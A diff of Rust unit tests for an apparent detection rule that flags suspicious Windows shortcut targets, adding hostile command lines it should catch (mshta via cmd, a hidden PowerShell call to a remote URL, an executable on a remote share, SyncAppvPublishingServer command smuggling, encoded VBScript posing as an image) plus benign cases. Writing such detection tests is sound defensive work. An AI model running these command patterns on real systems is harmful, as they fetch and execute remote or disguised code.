@@ -74,6 +74,15 @@ pub(super) mod tests {
             ("rundll32", "javascript:\"\\..\\mshtml,RunHTMLApplication \"", ""),
             ("C:\\Windows\\System32\\rundll32.exe", "shell32.dll,ShellExec_RunDLL x.exe", ""),
             ("msiexec.exe", "/q /i http://a.example/x.msi", ""),
+            ("cmd.exe", "/c C:\\Windows\\System32\\mshta.exe a", ""),
+            (
+                "cmd.exe",
+                "/c for /f %a in ('dir C:\\Windows\\*rshell.exe /s /b') do call %a http://a.example",
+                "",
+            ),
+            ("explorer.exe", "\\\\203.0.113.2\\docs\\a.exe", ""),
+            ("SyncAppvPublishingServer.vbs", "\"n;x|y\"", ""),
+            ("wscript.exe", "/e:VBScript.Encode a.jpg", ""),
             ("C:\\Program Files\\Microsoft\\Edge\\msedge.exe", "--gpu-launcher=\"cmd /c x\"", ""),
         ] {
             assert_eq!(hits(&RULE, target, arguments, icon), 1, "{target} {arguments}");
@@ -122,6 +131,10 @@ pub(super) mod tests {
         for (target, arguments) in [
             ("cmd.exe", "/c net use z: \\\\server\\share"),
             ("cmd.exe", "/c robocopy C:\\data D:\\backup /mir"),
+            ("AutoHotkey.exe", "a.ahk"),
+            ("wscript.exe", "\"D:\\My Files\\x.vbs\""),
+            (".\\data\\a.js", ""),
+            ("%CD%\\a.bat", ""),
             ("wscript.exe", "\\\\server\\netlogon\\logon.vbs"),
             ("powershell.exe", "-ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1"),
         ] {
